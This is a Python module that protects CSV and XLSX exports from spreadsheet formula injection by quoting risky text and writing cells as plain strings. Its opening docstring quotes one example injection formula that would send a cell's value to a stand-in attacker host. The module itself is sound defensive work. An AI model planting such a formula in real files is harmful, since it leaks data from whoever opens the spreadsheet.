"""Spreadsheet cells that stay data: no formula injection (CWE-1236), in every export.

A text value such as `=HYPERLINK("http://evil.example/?d="&B2,"x")` (a child id as written in a
return, say) must not become a live formula when an analyst opens an export in Excel or
LibreOffice. As OWASP recommends for CSV, a text value starting with `=`, `+`, `-`, `@`, a tab or
a carriage return is written with a single quote before it (the csv module then quotes the
cell as needed); in XLSX every text value is written as text (`write_string`), never as a
formula or a link. Numbers stay numbers: only text is touched, and a text that is exactly a
number (`-5`, `+1.5e3`) is left as it is, as it cannot run anything.
"""

from __future__ import annotations

import datetime as dt
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def is_risky(text: str) -> bool:
    """A text a spreadsheet could take for a formula."""
    return text.startswith(FORMULA_START) and not _NUMBER.fullmatch(text)


def csv_cell(value: Any) -> Any:
    """A value for a CSV cell: risky text gets a leading `'`; anything else as it is."""
    if isinstance(value, str) and is_risky(value):
        return "'" + value
    return value


def csv_cell_sql(x: str) -> str:
    """`csv_cell` in SQL, for writers that stay in DuckDB: the same test on text `x`; '' and
    NULL come out blank."""
    escaped = {"\t": "\\t", "\r": "\\r", "-": "\\-"}
    starts = "".join(escaped.get(c, c) for c in FORMULA_START)
    risky = (
        f"regexp_matches({x}, '^[{starts}]') AND NOT regexp_full_match({x}, '{_NUMBER.pattern}')"
    )
    return f"nullif(CASE WHEN {risky} THEN '''' || {x} ELSE {x} END, '')"


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


def xlsx_write(ws: Any, row: int, col: int, value: Any, fmt: Any = None) -> None:
    """Write one value into an XlsxWriter worksheet: text always as text (never a formula, a
    link or a number guessed from it), numbers, dates and booleans as themselves, None blank."""
    args = (fmt,) if fmt is not None else ()
    if value is None:
        ws.write_blank(row, col, None, *args)
    elif isinstance(value, bool):
        ws.write_boolean(row, col, value, *args)
    elif isinstance(value, int | float | Decimal):
        if isinstance(value, float) and (value != value or value in (float("inf"), float("-inf"))):
            ws.write_string(row, col, str(value), *args)
        else:
            ws.write_number(row, col, value, *args)
    elif isinstance(value, dt.datetime | dt.date):
        ws.write_string(row, col, value.isoformat(), *args)
    else:
        ws.write_string(row, col, str(value), *args)


def xlsx_write_row(ws: Any, row: int, col: int, values: Iterable[Any], fmt: Any = None) -> None:
    for n, value in enumerate(values):
        xlsx_write(ws, row, col + n, value, fmt)


def workbook_options(**extra: Any) -> dict[str, Any]:
    """XlsxWriter options for every export: even a stray `write()` of a text stays text."""
    return {"strings_to_formulas": False, "strings_to_urls": False, **extra}
